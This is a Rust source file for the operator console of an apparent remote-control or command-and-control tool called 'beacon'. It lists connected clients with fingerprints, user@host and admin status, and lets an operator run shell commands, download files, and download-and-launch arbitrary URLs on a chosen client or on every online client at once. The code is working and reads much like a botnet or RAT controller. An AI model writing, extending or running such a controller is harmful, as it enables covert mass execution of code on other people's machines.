//! Line-oriented operator console.
//!
//! Commands are looked up in a table keyed by lowercase name and alias, so
//! `LIST`, `list` and `clients` all resolve to the same entry. A command that
//! takes a `<target>` accepts a handle or `all` (every online client).

use std::collections::HashMap;
use std::fmt::Write as _;
use std::io;
use std::sync::Arc;

use beacon_wire::SessionError;
use metrics::counter;
use thiserror::Error;
use tokio::io::{AsyncBufRead, AsyncBufReadExt, AsyncWrite, AsyncWriteExt};
use tracing::{debug, warn};

use crate::registry::{ClientView, Handle, Registry, RegistryError};
use crate::telemetry::METRIC_SESSIONS_RETIRED;

const PROMPT: &str = "beacon> ";
/// ANSI erase-display followed by cursor-home.
const CLEAR_SCREEN: &str = "\x1b[2J\x1b[H";

#[derive(Debug, Clone, Error, PartialEq, Eq)]
pub enum ConsoleError {
    #[error("usage: {0}")]
    Usage(&'static str),
    #[error("unknown command `{0}`; type `help` for a list")]
    UnknownCommand(String),
    #[error("`{0}` is not a handle or `all`")]
    BadTarget(String),
    #[error("client {0} is offline")]
    Offline(Handle),
    #[error("no clients online")]
    NoClients,
    #[error(transparent)]
    Registry(#[from] RegistryError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flow {
    Continue,
    Exit,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Action {
    Help,
    Clients,
    Ping,
    Info,
    Exec { background: bool },
    Download,
    DownloadExecute,
    Disconnect,
    Forget,
    Clear,
    Exit,
}

#[derive(Debug)]
struct CommandSpec {
    name: &'static str,
    aliases: &'static [&'static str],
    usage: &'static str,
    summary: &'static str,
    action: Action,
}

const COMMANDS: &[CommandSpec] = &[
    CommandSpec {
        name: "help",
        aliases: &["h", "?"],
        usage: "help [command]",
        summary: "list commands or describe one",
        action: Action::Help,
    },
    CommandSpec {
        name: "clients",
        aliases: &["list", "c"],
        usage: "clients",
        summary: "list known clients",
        action: Action::Clients,
    },
    CommandSpec {
        name: "ping",
        aliases: &[],
        usage: "ping <target>",
        summary: "measure round-trip time",
        action: Action::Ping,
    },
    CommandSpec {
        name: "info",
        aliases: &["sysinfo"],
        usage: "info <target>",
        summary: "show full system information",
        action: Action::Info,
    },
    CommandSpec {
        name: "exec",
        aliases: &["run"],
        usage: "exec <target> <command...>",
        summary: "run a shell command and print its output",
        action: Action::Exec { background: false },
    },
    CommandSpec {
        name: "bexec",
        aliases: &[],
        usage: "bexec <target> <command...>",
        summary: "start a shell command without waiting",
        action: Action::Exec { background: true },
    },
    CommandSpec {
        name: "download",
        aliases: &[],
        usage: "download <target> <url> <path>",
        summary: "fetch a URL to a path on the client",
        action: Action::Download,
    },
    CommandSpec {
        name: "dlexec",
        aliases: &[],
        usage: "dlexec <target> <url> [args...]",
        summary: "fetch a URL and launch it",
        action: Action::DownloadExecute,
    },
    CommandSpec {
        name: "disconnect",
        aliases: &[],
        usage: "disconnect <handle>",
        summary: "close a client's connection, keeping its handle",
        action: Action::Disconnect,
    },
    CommandSpec {
        name: "forget",
        aliases: &[],
        usage: "forget <handle>",
        summary: "drop a client and free its handle",
        action: Action::Forget,
    },
    CommandSpec {
        name: "clear",
        aliases: &["cls"],
        usage: "clear",
        summary: "clear the screen",
        action: Action::Clear,
    },
    CommandSpec {
        name: "exit",
        aliases: &["quit"],
        usage: "exit",
        summary: "leave the console",
        action: Action::Exit,
    },
];

struct CommandTable {
    by_name: HashMap<String, &'static CommandSpec>,
}

impl CommandTable {
    fn new(specs: &'static [CommandSpec]) -> Self {
        let mut by_name = HashMap::new();
        for spec in specs {
            for name in std::iter::once(&spec.name).chain(spec.aliases) {
                by_name.insert(name.to_ascii_lowercase(), spec);
            }
        }
        Self { by_name }
    }

    fn resolve(&self, word: &str) -> Option<&'static CommandSpec> {
        self.by_name.get(&word.to_ascii_lowercase()).copied()
    }
}

pub struct Console {
    registry: Arc<Registry>,
    commands: CommandTable,
}

impl Console {
    pub fn new(registry: Arc<Registry>) -> Self {
        Self {
            registry,
            commands: CommandTable::new(COMMANDS),
        }
    }

    /// Reads commands until `exit` or end of input.
    pub async fn run<R, W>(&self, reader: R, mut writer: W) -> io::Result<()>
    where
        R: AsyncBufRead + Unpin,
        W: AsyncWrite + Unpin,
    {
        let mut lines = reader.lines();
        loop {
            writer.write_all(PROMPT.as_bytes()).await?;
            writer.flush().await?;
            let Some(line) = lines.next_line().await? else {
                return Ok(());
            };
            let (output, flow) = self.execute(&line).await;
            if !output.is_empty() {
                writer.write_all(output.as_bytes()).await?;
                if !output.ends_with('\n') {
                    writer.write_all(b"\n").await?;
                }
            }
            if flow == Flow::Exit {
                writer.flush().await?;
                return Ok(());
            }
        }
    }

    /// Runs one command line and returns what to print.
    pub async fn execute(&self, line: &str) -> (String, Flow) {
        let line = line.trim();
        let Some((word, rest)) = next_word(line) else {
            return (String::new(), Flow::Continue);
        };
        let Some(spec) = self.commands.resolve(word) else {
            return (
                ConsoleError::UnknownCommand(word.to_string()).to_string(),
                Flow::Continue,
            );
        };
        debug!(command = spec.name, "console command");
        if spec.action == Action::Exit {
            return (String::new(), Flow::Exit);
        }
        match self.dispatch(spec, rest).await {
            Ok(output) => (output, Flow::Continue),
            Err(err) => (format!("error: {err}"), Flow::Continue),
        }
    }

    async fn dispatch(&self, spec: &CommandSpec, args: &str) -> Result<String, ConsoleError> {
        let usage = ConsoleError::Usage(spec.usage);
        match spec.action {
            Action::Help => Ok(self.help(args)),
            Action::Clients => Ok(self.clients()),
            Action::Ping => {
                let (target, _) = next_word(args).ok_or(usage)?;
                self.for_each(target, |client| async move {
                    client
                        .session
                        .ping()
                        .await
                        .map(|rtt| format!("pong in {} ms", rtt.as_millis()))
                })
                .await
            }
            Action::Info => {
                let (target, _) = next_word(args).ok_or(usage)?;
                self.for_each(target, |client| async move {
                    let info = client.session.system_info().await?;
                    let id = &info.identity;
                    Ok(format!(
                        "{}\n  fingerprint: {}\n  os: {} {}\n  arch: {}\n  cpu: {} ({} cores)\n  memory: {} MiB\n  admin: {}\n  language: {}\n  agent: {}",
                        id.display_name(),
                        id.fingerprint,
                        id.os,
                        info.os_version,
                        info.architecture,
                        info.cpu,
                        info.logical_cores,
                        info.memory_mib,
                        id.administrator,
                        id.language,
                        info.agent_version,
                    ))
                })
                .await
            }
            Action::Exec { background } => {
                let (target, command) = next_word(args).ok_or(usage.clone())?;
                if command.is_empty() {
                    return Err(usage);
                }
                self.for_each(target, |client| async move {
                    let result = client.session.run_command(command, background).await?;
                    Ok(match (result.success, background) {
                        (true, true) => "started".to_string(),
                        (true, false) => result.output,
                        (false, _) => format!("command failed\n{}", result.output),
                    })
                })
                .await
            }
            Action::Download => {
                let (target, rest) = next_word(args).ok_or(usage.clone())?;
                let (url, rest) = next_word(rest).ok_or(usage.clone())?;
                let (location, _) = next_word(rest).ok_or(usage)?;
                self.for_each(target, |client| async move {
                    let result = client.session.download_file(url, location).await?;
                    Ok(match result.error {
                        None if result.success => format!("saved to {location}"),
                        error => format!(
                            "download failed: {}",
                            error.unwrap_or_else(|| "unknown error".into())
                        ),
                    })
                })
                .await
            }
            Action::DownloadExecute => {
                let (target, rest) = next_word(args).ok_or(usage.clone())?;
                let (url, rest) = next_word(rest).ok_or(usage)?;
                let extra: Vec<String> = rest.split_whitespace().map(str::to_string).collect();
                self.for_each(target, |client| {
                    let extra = extra.clone();
                    async move {
                        let result = client.session.download_and_execute(url, extra).await?;
                        Ok(if result.success {
                            match result.pid {
                                Some(pid) => format!("launched pid {pid}"),
                                None => "launched".to_string(),
                            }
                        } else {
                            format!(
                                "launch failed: {}",
                                result.error.unwrap_or_else(|| "unknown error".into())
                            )
                        })
                    }
                })
                .await
            }
            Action::Disconnect => {
                let handle = parse_handle(args, usage)?;
                let client = self.registry.disconnect(handle)?;
                Ok(format!("[{handle}] {} disconnected", client.identity.display_name()))
            }
            Action::Forget => {
                let handle = parse_handle(args, usage)?;
                let client = self.registry.forget(handle)?;
                Ok(format!("[{handle}] {} forgotten", client.identity.display_name()))
            }
            Action::Clear => Ok(CLEAR_SCREEN.to_string()),
            Action::Exit => Ok(String::new()),
        }
    }

    fn help(&self, args: &str) -> String {
        if let Some((word, _)) = next_word(args) {
            return match self.commands.resolve(word) {
                Some(spec) if spec.aliases.is_empty() => {
                    format!("{}\n  {}", spec.usage, spec.summary)
                }
                Some(spec) => format!(
                    "{}\n  {}\n  aliases: {}",
                    spec.usage,
                    spec.summary,
                    spec.aliases.join(", ")
                ),
                None => ConsoleError::UnknownCommand(word.to_string()).to_string(),
            };
        }
        let mut out = String::new();
        for spec in COMMANDS {
            let _ = writeln!(out, "  {:<34} {}", spec.usage, spec.summary);
        }
        out
    }

    fn clients(&self) -> String {
        let entries = self.registry.entries();
        if entries.is_empty() {
            return "no clients".to_string();
        }
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{:>6}  {:<36}  {:<28}  {:<10}  status",
            "handle", "fingerprint", "user@host", "os"
        );
        for client in entries {
            let _ = writeln!(
                out,
                "{:>6}  {:<36}  {:<28}  {:<10}  {}",
                client.handle,
                client.fingerprint(),
                client.identity.display_name(),
                client.identity.os,
                if client.connected { "online" } else { "offline" }
            );
        }
        out
    }

    fn targets(&self, target: &str) -> Result<Vec<ClientView>, ConsoleError> {
        if target.eq_ignore_ascii_case("all") {
            let online = self.registry.online_entries();
            if online.is_empty() {
                return Err(ConsoleError::NoClients);
            }
            return Ok(online);
        }
        let handle: Handle = target
            .parse()
            .map_err(|_| ConsoleError::BadTarget(target.to_string()))?;
        let client = self
            .registry
            .lookup_by_handle(handle)
            .ok_or(RegistryError::UnknownHandle(handle))?;
        if !client.connected {
            return Err(ConsoleError::Offline(handle));
        }
        Ok(vec![client])
    }

    /// Runs `op` against each target in handle order, one line block per client.
    async fn for_each<F, Fut>(&self, target: &str, op: F) -> Result<String, ConsoleError>
    where
        F: Fn(ClientView) -> Fut,
        Fut: std::future::Future<Output = Result<String, SessionError>>,
    {
        let mut out = String::new();
        for client in self.targets(target)? {
            let handle = client.handle;
            let session = Arc::clone(&client.session);
            match op(client).await {
                Ok(text) => {
                    let _ = writeln!(out, "[{handle}] {}", text.trim_end());
                }
                Err(err) => {
                    if !session.is_alive() {
                        counter!(METRIC_SESSIONS_RETIRED, "reason" => err.reason())
                            .increment(1);
                    }
                    warn!(handle, error = %err, "operator command failed");
                    let _ = writeln!(out, "[{handle}] error: {err}");
                }
            }
        }
        Ok(out)
    }
}

/// Splits off the first whitespace-delimited word, leaving the rest verbatim.
fn next_word(input: &str) -> Option<(&str, &str)> {
    let input = input.trim_start();
    if input.is_empty() {
        return None;
    }
    match input.find(char::is_whitespace) {
        Some(end) => Some((&input[..end], input[end..].trim_start())),
        None => Some((input, "")),
    }
}

fn parse_handle(args: &str, usage: ConsoleError) -> Result<Handle, ConsoleError> {
    let (word, _) = next_word(args).ok_or(usage)?;
    word.parse()
        .map_err(|_| ConsoleError::BadTarget(word.to_string()))
}
